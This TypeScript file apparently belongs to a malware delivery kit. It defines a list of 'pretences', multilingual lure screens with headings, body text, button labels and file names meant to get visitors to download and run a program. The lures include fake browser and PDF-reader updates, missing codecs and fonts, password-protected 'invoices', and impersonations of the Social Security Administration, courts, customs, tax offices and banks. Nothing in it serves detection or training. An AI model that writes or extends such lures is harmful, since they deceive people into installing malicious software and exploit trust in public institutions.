/** Why a visitor should take a program: a heading, what is said, and what the button says. */
export interface Pretence {
  readonly language: string
  readonly heading: string
  readonly text: string
  readonly button: string
  readonly file: string
}

export const PRETENCES: readonly Pretence[] = [
  {
    language: 'en',
    heading: 'Your browser is out of date',
    text: 'Install the latest update to view this page safely.',
    button: 'Update now',
    file: 'Chrome_Update',
  },
  {
    language: 'en',
    heading: 'You have received an encrypted invoice',
    text: 'The document will open after the viewer has been installed. Password: 4417',
    button: 'Download document',
    file: 'Invoice_88213',
  },
  {
    language: 'en',
    heading: 'Missing plugin',
    text: 'The video cannot be played. Install the codec to go on.',
    button: 'Install codec',
    file: 'HD_Codec_Setup',
  },
  {
    language: 'en',
    heading: 'Social Security Statement',
    text: 'Your statement is ready. Open it on a Windows computer.',
    button: 'Access statement',
    file: 'SSA_Statement_2026',
  },
  {
    language: 'en',
    heading: 'Join the meeting',
    text: 'A newer version of the meeting client is needed to join.',
    button: 'Join',
    file: 'MeetingSetup',
  },
  {
    language: 'es',
    heading: 'Notificación judicial',
    text: 'Tiene una citación pendiente. Descargue el expediente; la clave es 2026.',
    button: 'Descargar expediente',
    file: 'Citacion_Juzgado_04',
  },
  {
    language: 'es',
    heading: 'Su factura electrónica',
    text: 'El documento se descargará en unos segundos.',
    button: 'Ver factura',
    file: 'Factura_CFE',
  },
  {
    language: 'de',
    heading: 'Ihre Sendungsunterlagen',
    text: 'Die Zollunterlagen werden heruntergeladen. Bitte öffnen Sie die Datei am Computer.',
    button: 'Unterlagen herunterladen',
    file: 'Zollerklaerung',
  },
  {
    language: 'de',
    heading: 'Schriftart nicht gefunden',
    text: 'Zur Anzeige des Dokuments fehlt eine Schriftart.',
    button: 'Schriftart installieren',
    file: 'Schriftpaket',
  },
  {
    language: 'fr',
    heading: 'Avis de contravention',
    text: 'Consultez le dossier joint avant le dernier délai.',
    button: 'Ouvrir le dossier',
    file: 'Avis_Amende',
  },
  {
    language: 'fr',
    heading: 'Mise à jour requise',
    text: 'Votre lecteur PDF est trop ancien pour ce document.',
    button: 'Mettre à jour',
    file: 'Lecteur_PDF',
  },
  {
    language: 'pt',
    heading: 'Nota fiscal eletrônica',
    text: 'O download da NF-e começará em instantes.',
    button: 'Baixar nota',
    file: 'NFe_352611',
  },
  {
    language: 'pt',
    heading: 'Módulo de segurança',
    text: 'Instale o módulo para continuar a usar o banco.',
    button: 'Instalar módulo',
    file: 'Modulo_Protecao',
  },
  {
    language: 'pl',
    heading: 'Faktura korygująca',
    text: 'Pobierz dokument i otwórz go na komputerze.',
    button: 'Pobierz fakturę',
    file: 'FV_korekta_11',
  },
  {
    language: 'ja',
    heading: '請求書のご確認',
    text: '文書を表示するにはビューアーをインストールしてください。',
    button: 'ダウンロード',
    file: 'seikyusho',
  },
  {
    language: 'it',
    heading: 'Agenzia delle Entrate: rimborso',
    text: 'Scarica il modulo allegato e aprilo dal computer.',
    button: 'Scarica modulo',
    file: 'Modulo_Rimborso',
  },
  {
    language: 'tr',
    heading: 'E-fatura',
    text: 'Belgeniz birkaç saniye içinde indirilecek.',
    button: 'Belgeyi indir',
    file: 'e-Fatura',
  },
  {
    language: 'nl',
    heading: 'Aanmaning',
    text: 'Het dossier wordt gedownload. Open het op uw computer.',
    button: 'Dossier openen',
    file: 'Dossier_CJIB',
  },
]
